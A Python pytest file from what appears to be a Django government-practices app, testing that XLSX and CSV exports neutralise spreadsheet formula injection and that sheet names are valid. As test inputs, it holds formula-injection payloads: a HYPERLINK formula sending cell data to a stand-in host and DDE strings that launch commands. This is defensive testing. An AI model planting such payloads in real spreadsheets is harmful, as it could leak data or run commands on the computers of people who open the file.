"""No spreadsheet of ours holds a live formula, whatever a city typed (bizenv/web/sheets.py): the public batch
exports are opened as files, the .xlsx down to its XML; the 台账's files and the statistics' CSV have their own
tests beside their code (tests/adoptions/test_spreadsheet.py, tests/public/test_stats.py)."""

import csv
import io
import zipfile

import openpyxl
import pytest
from openpyxl.utils.escape import unescape

from batches import services as batches
from bizenv.web import sheets
from practices.enums import Role, Status
from tests.factories import CityFactory, IndicatorFactory, PracticeFactory, UserFactory

pytestmark = pytest.mark.django_db

# Each as an attacker would type it into a practice that then gets published.
ATTACKS = {
    "title": '=HYPERLINK("http://x.example/?"&A1,"点击查看")',
    "summary": "+cmd|' /C calc'!A0",
    "body": "===",
    "outcomes": "@SUM(1+1)*cmd|' /C calc'!A0",
}
MORE = ["-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture
def batch():
    city = CityFactory(code="610100", name="西安市")
    practice = PracticeFactory(city=city, indicator=IndicatorFactory(), status=Status.APPROVED, **ATTACKS)
    others = [
        PracticeFactory(city=city, indicator=practice.indicator, status=Status.APPROVED, title=text) for text in MORE
    ]
    batch = batches.batch_create(year=2024)
    batches.batch_add(batch=batch, practices=[practice, *others])
    return batches.batch_publish(batch=batch, by=UserFactory(role=Role.COORDINATOR))


def test_the_xlsx_export_has_no_formula_and_every_text_as_typed(client, batch):
    content = client.get(f"/batches/{batch.year}/{batch.sequence}/export.xlsx").content
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        sheet_xml = [package.read(name).decode() for name in package.namelist() if name.startswith("xl/worksheets/")]
    assert sheet_xml and not any("<f>" in xml or "<f " in xml for xml in sheet_xml)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header = [cell.value for cell in sheet[1]]
    first = dict(zip(header, sheet[2], strict=True))
    for field, name in [("title", "标题"), ("summary", "摘要"), ("body", "正文"), ("outcomes", "成效")]:
        assert first[name].data_type == "s" and first[name].value == ATTACKS[field]
    titles = [row[header.index("标题")].value for row in sheet.iter_rows(min_row=3)]
    assert [unescape(title) for title in titles] == MORE  # a carriage return is stored as _x000D_, as Excel does


def test_the_csv_export_puts_an_apostrophe_before_anything_a_spreadsheet_would_evaluate(client, batch):
    raw = client.get(f"/batches/{batch.year}/{batch.sequence}/export.csv").content
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    header, first = rows[0], dict(zip(rows[0], rows[1], strict=True))
    for field, name in [("title", "标题"), ("summary", "摘要"), ("body", "正文"), ("outcomes", "成效")]:
        assert first[name] == "'" + ATTACKS[field]
    assert [row[header.index("标题")] for row in rows[2:]] == ["'" + text for text in MORE]
    for row in rows:
        for cell in row:
            assert not cell.startswith(sheets.FORMULA_STARTS), cell
    assert first["序号"] == "1" and first["城市"] == "西安市"  # the rest as it was


def test_the_import_template_is_plain_text(client):
    official = UserFactory(role=Role.CITY_OFFICIAL, city=CityFactory())
    client.force_login(official)
    content = client.get("/city/import/template.xlsx").content
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        assert not any(b"<f>" in package.read(name) for name in package.namelist() if name.startswith("xl/worksheets/"))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert [cell.value for cell in sheet[1]][:3] == ["标题", "指标", "城市"] and sheet.max_row == 2


def test_only_text_starting_like_a_formula_is_changed():
    assert [sheets.neutral(v) for v in ["=1", "+1", "-1", "@A", "\tx", "\rx", "a=1", " =1", "", 5, None]] == [
        "'=1",
        "'+1",
        "'-1",
        "'@A",
        "'\tx",
        "'\rx",
        "a=1",
        " =1",
        "",
        5,
        None,
    ]


def sheet_names(content: bytes) -> list[str]:
    return openpyxl.load_workbook(io.BytesIO(content), read_only=True).sheetnames


def test_every_workbook_names_its_sheets_for_what_they_hold(client, batch):
    from adoptions import spreadsheet
    from adoptions.models import Adoption

    assert sheet_names(client.get(f"/batches/{batch.year}/{batch.sequence}/export.xlsx").content) == ["2024年第一批"]
    client.force_login(UserFactory(role=Role.CITY_OFFICIAL, city=CityFactory()))
    assert sheet_names(client.get("/city/import/template.xlsx").content) == ["经验做法"]
    assert sheet_names(spreadsheet.city_ledger_xlsx(Adoption.objects.none())) == ["复制推广台账", "填写说明"]
    assert sheet_names(spreadsheet.province_ledger_xlsx("2024年第一批复制推广台账", [])) == ["复制推广台账"]


def test_a_sheet_is_named_as_excel_allows():
    name = "2024/2 [草稿]: 全省*复制?\\推广" + "很长" * 20
    content = sheets.workbook(name, [sheets.Column("标题", 10)], [["一行"]])
    (written,) = sheet_names(content)
    assert written == sheets.sheet_name(name) and written.startswith("2024-2 -草稿-- 全省-复制--推广很长")
    assert len(written) == 31 and not set(written) & set("[]:*?/\\")
    assert sheets.sheet_name("'引号'") == "引号" and sheets.sheet_name("History") != "History"
    assert sheets.sheet_name("") == "Sheet1"
